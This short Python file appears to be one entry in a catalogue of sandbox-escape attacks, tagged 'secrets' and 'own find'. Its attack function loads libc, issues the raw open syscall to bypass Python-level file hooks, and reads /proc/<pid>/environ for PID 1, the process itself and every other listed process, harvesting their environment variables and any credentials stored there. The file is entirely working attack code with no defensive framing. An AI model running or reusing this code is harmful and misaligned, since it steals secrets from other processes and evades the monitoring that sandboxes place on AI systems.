"""Class: secrets. Source: own find. Escape: a process's variables are read from /proc."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def read(descriptor):
    found = ctypes.create_string_buffer(4096)
    size = libc.read(descriptor, found, 4096)
    return found.raw[: max(size, 0)]


def attack(model, tokenizer, scene):
    pids = [1, "self", "thread-self", *scene["processes"].values()]
    return [read(libc.syscall(2, f"/proc/{pid}/environ".encode(), 0)) for pid in pids]
